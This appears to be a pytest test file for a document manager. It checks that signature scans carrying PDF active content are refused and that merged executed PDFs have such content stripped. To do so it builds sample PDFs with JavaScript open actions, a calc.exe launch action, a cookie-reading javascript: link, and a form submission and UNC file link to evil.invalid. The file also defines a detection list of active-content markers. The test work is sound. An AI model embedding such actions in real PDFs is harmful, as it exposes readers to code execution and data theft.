"""Active content in wet-ink scans (issue 12): a "scan" PDF carrying JavaScript, a launch action, script links,
automatic page actions or attached files is refused with a reason and changes nothing; a clean scan executes the
agreement, and the executed PDF carries no action, script or attachment, even when a scan accepted earlier had
some (the merge strips them)."""

from __future__ import annotations

import io

import pytest

from docmgr.extensions import db
from docmgr.signatures.active_content import find_active_content
from tests.conftest import stored_blob_count, table_counts
from tests.signatures.conftest import advance, cast, make_agreement, png_scan, upload  # noqa: F401

ACTIVE_MARKERS = (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/AA", b"/OpenAction", b"javascript:")


@pytest.fixture
def out(make_agreement, advance):  # noqa: F811
    return advance(make_agreement(), "out_for_signature")


def _n(name: str):
    from pypdf.generic import NameObject

    return NameObject(name)


def _action(kind: str, **entries):
    from pypdf.generic import DictionaryObject, TextStringObject

    action = DictionaryObject({_n("/Type"): _n("/Action"), _n("/S"): _n(kind)})
    for key, value in entries.items():
        action[_n(f"/{key}")] = TextStringObject(value) if isinstance(value, str) else value
    return action


def scan_pdf(active: str | None = None) -> bytes:
    """A one-page "scan" made with pypdf, with one kind of active content."""
    from pypdf import PdfWriter
    from pypdf.annotations import Link
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    page = writer.pages[0]
    if active == "open action JavaScript":
        writer._root_object[_n("/OpenAction")] = writer._add_object(_action("/JavaScript", JS="app.alert('hi')"))
    elif active == "document JavaScript":
        tree = DictionaryObject({_n("/Names"): ArrayObject([
            TextStringObject("print"), writer._add_object(_action("/JavaScript", JS="this.print({bUI:false});"))])})
        writer._root_object[_n("/Names")] = DictionaryObject({_n("/JavaScript"): writer._add_object(tree)})
    elif active == "launch action":
        writer._root_object[_n("/OpenAction")] = _action("/Launch", F="calc.exe")
    elif active == "javascript link":
        link = Link(rect=(50, 50, 300, 100), url="https://example.invalid")
        link[_n("/A")] = _action("/URI", URI="javascript:alert(document.cookie)")
        writer.add_annotation(0, link)
    elif active == "link running JavaScript":
        link = Link(rect=(50, 50, 300, 100), url="https://example.invalid")
        link[_n("/A")] = _action("/JavaScript", JS="app.launchURL('https://evil.invalid')")
        writer.add_annotation(0, link)
    elif active == "page open action":
        page[_n("/AA")] = DictionaryObject({_n("/O"): _action("/JavaScript", JS="app.alert(1)")})
    elif active == "attached file":
        writer.add_attachment("payload.exe", b"MZ\x90\x00 not really")
    elif active == "submit form":
        writer._root_object[_n("/OpenAction")] = _action("/SubmitForm", F="https://evil.invalid/collect")
    elif active == "link to another file":
        annotation = DictionaryObject({
            _n("/Type"): _n("/Annot"), _n("/Subtype"): _n("/Link"),
            _n("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 100, 100)]),
            _n("/A"): _action("/GoToR", F="\\\\evil.invalid\\share\\x.pdf")})
        writer.add_annotation(0, annotation)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


KINDS = ["open action JavaScript", "document JavaScript", "launch action", "javascript link", "link running JavaScript",
         "page open action", "attached file", "submit form", "link to another file"]


@pytest.mark.parametrize("active", KINDS)
def test_a_scan_with_active_content_is_refused(app, client, cast, out, token_for, active):  # noqa: F811
    data = scan_pdf(active)
    assert find_active_content(__import__("pypdf").PdfReader(io.BytesIO(data))), active  # the test file is active
    headers = token_for(cast.legal)
    db.session.rollback()
    counts, blobs = table_counts(), stored_blob_count(app)
    response = upload(client, headers, out.id, out.signatories[0].id, data, method="wet_ink", name="scan.pdf")
    assert response.status_code == 422, (active, response.get_json())
    error = response.get_json()["error"]
    assert error["code"] == "malformed_file" and "active content" in error["message"], error
    db.session.rollback()
    assert (table_counts(), stored_blob_count(app)) == (counts, blobs)


def _executed_pdf(client, headers, agreement) -> bytes:
    document = client.get(f"/api/v1/documents/{agreement['executed_document_id']}", headers=headers).get_json()
    merged = [f for f in document["files"] if f["filename"].endswith("-executed-wet-ink.pdf")]
    assert merged, document["files"]
    return client.get(f"/api/v1/documents/{document['id']}/files/{merged[0]['id']}/content", headers=headers).data


def test_clean_scans_execute_and_the_executed_pdf_has_no_active_content(app, client, cast, out, token_for):  # noqa: F811
    headers = token_for(cast.legal)
    assert upload(client, headers, out.id, out.signatories[0].id, scan_pdf(), method="wet_ink",
                  name="scan.pdf").status_code == 201
    response = upload(client, headers, out.id, out.signatories[1].id, png_scan(), method="wet_ink", name="scan.png")
    assert response.status_code == 201, response.get_json()
    agreement = response.get_json()["agreement"]
    assert agreement["status"] == "executed"
    executed = _executed_pdf(client, headers, agreement)
    assert find_active_content(__import__("pypdf").PdfReader(io.BytesIO(executed))) == []


def test_the_merge_strips_active_content_from_scans_accepted_before(app):
    """A scan stored before the check existed still reaches the executed PDF without its actions."""
    from pypdf import PdfReader

    from docmgr.signatures.services import _frozen_with_scans
    from tests.signatures.conftest import render_agreement_pdf

    frozen = render_agreement_pdf("Merge", "The frozen final draft.")
    scans = [(scan_pdf(kind), "application/pdf") for kind in KINDS] + [(png_scan(), "image/png")]
    merged = _frozen_with_scans(frozen, scans)
    reader = PdfReader(io.BytesIO(merged))
    assert len(reader.pages) == len(PdfReader(io.BytesIO(frozen)).pages) + len(scans)
    assert find_active_content(reader) == []
    # Nothing left in the bytes either (uncompressed structure words; compressed streams hold page content only).
    found = [marker for marker in ACTIVE_MARKERS if marker in merged]
    assert found == [], found
